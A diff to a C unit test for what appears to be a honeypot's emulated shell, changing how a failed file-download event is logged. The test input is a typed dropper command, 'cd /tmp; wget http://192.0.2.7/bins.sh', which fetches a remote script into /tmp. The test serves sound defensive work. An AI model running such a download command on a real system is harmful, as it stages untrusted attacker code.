@@ -897,9 +897,12 @@ static void test_line_events(void **state)
     type(sh, "cd /tmp; wget http://192.0.2.7/bins.sh\r");
     assert_int_equal(nevents, 2);
     expect_json(0, "command.input", "\"commands\":[[\"cd\",\"/tmp\"],[\"wget\",\"http://192.0.2.7/bins.sh\"]]");
-    expect_json(1, "session.file_download", "\"url\":\"http://192.0.2.7/bins.sh\"");
-    expect_json(1, "session.file_download", "\"tool\":\"wget\"");
-    expect_json(1, "session.file_download", "\"outcome\":\"not_fetched\"");
+    expect_json(1, "session.file_download.failed", "\"url\":\"http://192.0.2.7/bins.sh\"");
+    expect_json(1, "session.file_download.failed", "\"tool\":\"wget\"");
+    expect_json(1, "session.file_download.failed", "\"found_in\":\"shell\"");
+    expect_json(1, "session.file_download.failed", "\"destfile\":\"/tmp/bins.sh\"");
+    /* no capture pipeline in a unit test: the URL is still logged, with why it was not fetched */
+    expect_json(1, "session.file_download.failed", "\"reason\":\"not_started\"");
     clear_events();
 
     /* a file written in the shell is captured once, whole, when the session ends */
